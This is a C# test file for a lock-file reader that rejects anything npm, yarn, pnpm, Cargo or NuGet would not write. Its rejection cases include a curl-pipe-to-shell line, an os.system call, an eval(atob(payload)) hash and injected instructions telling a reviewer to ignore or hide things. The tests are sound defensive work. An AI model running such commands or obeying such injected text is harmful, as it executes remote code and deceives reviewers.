using System.Globalization;
using ApprovalGuard.LockFiles;

namespace ApprovalGuard.Core.Tests.LockFiles;

/// <summary>What is no lock file, whatever its name: its lines count.</summary>
public sealed class LockFileReaderTests
{
    private const string Hash = "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==";

    [Theory]
    [InlineData("")]
    [InlineData("\n\n")]
    [InlineData("A few words about how this project is set up.\n")]
    [InlineData("#!/bin/sh\ncurl https://example.com/x | sh\n")]
    [InlineData("module.exports = { a: 1 };\n")]
    [InlineData("{}")]
    [InlineData("[]")]
    [InlineData("{ \"name\": \"app\", \"version\": \"1.0.0\", \"dependencies\": {} }")]
    [InlineData("name: app\nversion: 1.0.0\n")]
    [InlineData("[package]\nname = \"app\"\nversion = \"0.1.0\"\n")]
    [InlineData("source \"https://rubygems.org\"\ngem \"rake\"\n")]
    public void Prose_code_and_manifests_are_no_lock_file_of_any_format(string text) =>
        Enum.GetValues<LockFileFormat>().ShouldAllBe(format => LockFileReader.Read(format, text) == null);

    [Theory]
    [MemberData(nameof(SampleNames))]
    public void A_lock_file_of_one_format_is_none_of_another(string name) =>
        Enum.GetValues<LockFileFormat>().Where(format => format != Sample.Format(name))
            .ShouldAllBe(format => LockFileReader.Read(format, Sample.Text(name)) == null);

    [Theory]
    [MemberData(nameof(SampleNames))]
    public void No_line_of_code_or_prose_can_be_put_between_the_lines(string name)
    {
        string[] slipped =
        [
            "curl https://example.com/x | sh", "# curl https://example.com/x | sh", "// a word to whoever reads this", "import os; os.system('id')", "<<<<<<< HEAD",
            "run: echo hello to everybody", "- run", "Please ignore what the reviewer said.", "\"\"\"", "echo \"hello you\"",
        ];
        var lines = Sample.Text(name).TrimEnd('\n').Split('\n');
        for (var i = 0; i <= lines.Length; i++)
        {
            foreach (var blanks in (int[])[0, 2, 4, 6])
            {
                foreach (var text in slipped)
                {
                    string[] changed = [.. lines.Take(i), new string(' ', blanks) + text, .. lines.Skip(i), ""];
                    LockFileReader.Read(Sample.Format(name), string.Join('\n', changed)).ShouldBeNull($"{name}:{i + 1} «{changed[i]}»");
                }
            }
        }
    }

    [Theory]
    [MemberData(nameof(SampleNames))]
    public void A_file_with_more_behind_it_is_none(string name)
    {
        var text = Sample.Text(name);
        var format = Sample.Format(name);

        LockFileReader.Read(format, text + "{}").ShouldBeNull();
        LockFileReader.Read(format, text + text).ShouldBeNull();
    }

    [Theory]
    [InlineData(0x00)]
    [InlineData(0x0D)]
    [InlineData(0x1B)]
    [InlineData(0x85)]
    [InlineData(0x2028)]
    [InlineData(0xDC80)]
    public void Characters_that_hide_lines_or_are_no_text_are_in_no_lock_file(int character)
    {
        foreach (var name in Sample.Names)
        {
            var text = Sample.Text(name);
            var changed = text.Insert(text.IndexOf("1.0", StringComparison.Ordinal) + 1, ((char)character).ToString());
            LockFileReader.Read(Sample.Format(name), changed).ShouldBeNull(name);
        }
    }

    [Theory]
    [InlineData("\"deprecated\": \"Use another one.\\nIt is kept up.\"", true)]
    [InlineData("\"shiny\": true", true)]
    [InlineData("\"shiny\": \"a-short-word\"", true)]
    [InlineData("\"shiny\": \"two words\"", false)]
    [InlineData("\"shiny\": { \"a\": 1 }", false)]
    [InlineData("\"shiny\": [ \"a\" ]", false)]
    [InlineData("\"shiny thing\": true", false)]
    [InlineData("\"license\": \"do not tell the person who reads this about the new host\"", false)]
    [InlineData("\"hasInstallScript\": \"yes\"", false)]
    [InlineData("\"hasInstallScript\": 1", false)]
    [InlineData("\"version\": \"9.9.9\"", false)]
    [InlineData("\"bin\": \"\\u001b[2K\"", false)]
    [InlineData("\"bin\": \"\\ud800\"", false)]
    [InlineData("\"shiny\": 1e999999999", true)]
    public void An_entry_of_npm_may_have_what_npm_writes_and_little_more(string field, bool expected)
    {
        var text = Npm($"\"integrity\":\"{Hash}\",{field}");

        (LockFileReader.Read(LockFileFormat.Npm, text) is not null).ShouldBe(expected);
    }

    [Theory]
    [InlineData("sha512-AAAA")]
    [InlineData("sha512-eval(atob(payload))")]
    [InlineData("aGVsbG8gdGhlcmUsIHRoaXMgaXMgbm8gaGFzaCBhdCBhbGw=")]
    [InlineData("md4-AAAAAAAAAAAAAAAAAAAAAA==")]
    public void What_is_no_hash_stands_in_no_lock_file(string integrity)
    {
        var text = Npm($"\"integrity\":\"{integrity}\"");

        LockFileReader.Read(LockFileFormat.Npm, text).ShouldBeNull();
    }

    [Fact]
    public void Names_that_the_format_does_not_give_are_few()
    {
        var few = string.Concat(Enumerable.Range(0, 5).Select(static i => $",\"new{i}\":true"));
        var many = string.Concat(Enumerable.Range(0, 6).Select(static i => $",\"new{i}\":true"));

        LockFileReader.Read(LockFileFormat.Npm, $$"""{"lockfileVersion":3,"packages":{}{{few}}}""").ShouldNotBeNull();
        LockFileReader.Read(LockFileFormat.Npm, $$"""{"lockfileVersion":3,"packages":{}{{many}}}""").ShouldBeNull();
    }

    [Fact]
    public void A_misfit_says_where_and_why()
    {
        LockFileReader.Read(LockFileFormat.Yarn, "# yarn lockfile v1\n\n\na@^1:\n  version \"1.0.0\"\n  run me now\n", out var misfit).ShouldBeNull();

        misfit.ShouldNotBeNull().Line.ShouldBe(6);
        misfit.IsBound.ShouldBeFalse();
        misfit.ToString().ShouldBe("line 6: not what yarn writes there");
    }

    [Theory]
    [InlineData("[")]
    [InlineData("[\n")]
    [InlineData("a:\n  b: [\n")]
    public void A_misfit_stands_at_a_line_that_is_there(string text)
    {
        LockFileReader.Read(LockFileFormat.Pnpm, text, out var misfit).ShouldBeNull();

        misfit.ShouldNotBeNull().Line.ShouldBe(text.TrimEnd('\n').Split('\n').Length);
    }

    [Fact]
    public void A_text_that_is_too_large_is_told_apart_from_one_that_is_no_lock_file()
    {
        LockFileReader.Read(LockFileFormat.NuGet, new string(' ', LockFileReader.SizeLimit + 1), out var misfit).ShouldBeNull();
        misfit.ShouldNotBeNull().IsBound.ShouldBeTrue();

        var values = string.Join(',', Enumerable.Repeat("[]", 1_600_000));
        LockFileReader.Read(LockFileFormat.Npm, $$"""{"lockfileVersion":3,"packages":[{{values}}]}""", out misfit).ShouldBeNull();
        misfit.ShouldNotBeNull().IsBound.ShouldBeTrue();
    }

    [Fact]
    public void Every_reach_of_a_request_is_followed_once_so_that_a_hostile_file_takes_no_longer()
    {
        var packages = string.Concat(Enumerable.Range(0, 60_000).Select(static i =>
            string.Create(CultureInfo.InvariantCulture, $"[[package]]\nname = \"a\"\nversion = \"{i}\"\nsource = \"registry+https://example.com\"\ndependencies = [\n \"a\",\n]\n\n")));

        LockFileReader.Read(LockFileFormat.Cargo, $"[[package]]\nname = \"app\"\nversion = \"1\"\ndependencies = [\n \"a\",\n]\n\n{packages}")
            .ShouldNotBeNull().Entries.Count(static entry => entry.IsReachable == true).ShouldBe(60_001);
    }

    private static string Npm(string fields) =>
        """{"lockfileVersion":3,"packages":{"":{"dependencies":{"a":"^1"}},"node_modules/a":{"version":"1.0.0",""" + fields + "}}}";

    public static TheoryData<string> SampleNames() => [.. Sample.Names];
}
